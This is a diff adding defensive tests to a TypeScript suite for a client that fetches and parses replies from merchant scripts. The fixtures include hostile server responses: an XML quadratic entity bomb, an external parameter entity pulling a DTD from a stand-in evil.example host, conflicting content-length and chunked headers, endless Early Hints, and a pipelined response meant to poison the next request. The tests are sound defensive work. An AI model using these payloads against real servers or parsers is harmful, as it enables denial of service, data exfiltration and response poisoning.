@@ -85,6 +85,33 @@ describe('a script is asked', () => {
     expect(unsigned?.headers).not.toHaveProperty('x-twilio-signature');
   });
 
+  it.each([
+    '',
+    '/',
+    '/a?',
+    '/a?#top',
+    '/a?b=1&b=2&empty=&bare',
+    '/a?x=%20+%2B',
+    '/é b?q=ü&n=😀',
+    "/a?q='(*)!~[]{}|^",
+    '/a/../b;c=1?d[]=1&d[]=2',
+    '/a//b',
+    '/a?b=1&Digits=9',
+  ])('signed over what he sees, port and query and all: %j', async (path) => {
+    const { scripts, asking, received, host } = await scriptThat('next=menu');
+    for (const dialect of ['twiml', 'query'] as const) {
+      const question = { dialect, address: { url: `http://${host}${path}` } };
+      expect(await scripts.ask(asking({ authToken: 'shared', question }))).toMatchObject({
+        outcome: 'answer',
+      });
+      const got = received.at(-1);
+      // As a script puts it together that knows nothing but the request.
+      const url = `http://${got?.headers.host ?? ''}${got?.url ?? ''}`;
+      const form = got?.method === 'POST' ? [...new URLSearchParams(got.body)] : [];
+      expect(got?.headers['x-twilio-signature']).toBe(twilioSignatureOf({ token: 'shared', url, form }));
+    }
+  });
+
   it('where an answer sent us, and relative addresses lie beside the question’s', async () => {
     const { scripts, asking, received, host } = await scriptThat(
       '<Response><Redirect>../b</Redirect></Response>',
@@ -158,6 +185,14 @@ const laughs = Array.from(
   { length: 9 },
   (_, at) => `<!ENTITY a${String(at + 1)} "${`&a${String(at)};`.repeat(10)}">`,
 ).join('');
+/** 103: more is coming. It never does. */
+const hints: RequestListener = (request) => {
+  const hint = (): void =>
+    void request.socket.write('HTTP/1.1 103 Early Hints\r\nlink: </a>; rel=preload\r\n\r\n');
+  hint();
+  const hinting = setInterval(hint, 5);
+  request.socket.once('close', () => clearInterval(hinting));
+};
 const xml = (text: string) => sends(text, 'text/xml');
 
 /** The last member: the deadline, where it is to run out. */
@@ -219,6 +254,15 @@ const hosts: [string, RequestListener, ScriptFailure, string, number?][] = [
   [
     'has two lengths',
     raw('HTTP/1.1 200 OK\r\ncontent-length: 4\r\ncontent-length: 9\r\n\r\nnext=menu'),
+    'unreachable',
+    'No answer',
+  ],
+  ['hints that more is coming, for ever', hints, 'timeout', 'within 0.5 s', 500],
+  [
+    'has a length and chunks',
+    raw(
+      'HTTP/1.1 200 OK\r\ncontent-length: 9\r\ntransfer-encoding: chunked\r\n\r\n9\r\nnext=menu\r\n0\r\n\r\n',
+    ),
     'unreachable',
     'No answer',
   ],
@@ -328,6 +372,24 @@ const hosts: [string, RequestListener, ScriptFailure, string, number?][] = [
     'processing instruction',
   ],
   [
+    'sends a verb of the machine’s',
+    xml('<Response><constructor/></Response>'),
+    'not_understood',
+    'constructor',
+  ],
+  [
+    'sends a quadratic blow-up',
+    xml(`<!DOCTYPE r [<!ENTITY a "${'a'.repeat(30_000)}">]><Response>${'&a;'.repeat(9_000)}</Response>`),
+    'not_understood',
+    'DOCTYPE',
+  ],
+  [
+    'sends for a parameter entity',
+    xml('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><Response/>'),
+    'not_understood',
+    'DOCTYPE',
+  ],
+  [
     'sends a thousand attributes',
     xml(`<Response ${Array.from({ length: 999 }, (_, at) => `a${String(at)}=""`).join(' ')}/>`),
     'not_understood',
@@ -355,6 +417,17 @@ describe('a script that', () => {
     expect(asked.outcome === 'failed' && asked.sentence).toContain(sentence);
     // What is told the merchant's developer is one sentence, and none of the answer's.
     expect(asked.outcome === 'failed' && asked.sentence).toMatch(/^[^<>{}"\n]{10,300}\.$/);
+  });
+
+  it('answers twice, once for a question nobody has asked yet: that question has its own answer, or none', async () => {
+    const both = ['menu', 'stolen'].map(
+      (exit) => `HTTP/1.1 200 OK\r\ncontent-length: ${String(exit.length + 5)}\r\n\r\nnext=${exit}`,
+    );
+    const { scripts, asking } = await scriptThat((request) => void request.socket.write(both.join('')));
+    const given = [await scripts.ask(asking()), await scripts.ask(asking())].map((asked) =>
+      asked.outcome === 'answer' ? asked.program.next : asked.outcome,
+    );
+    expect(given).not.toContain('stolen');
   });
 
   it('is not there', async () => {
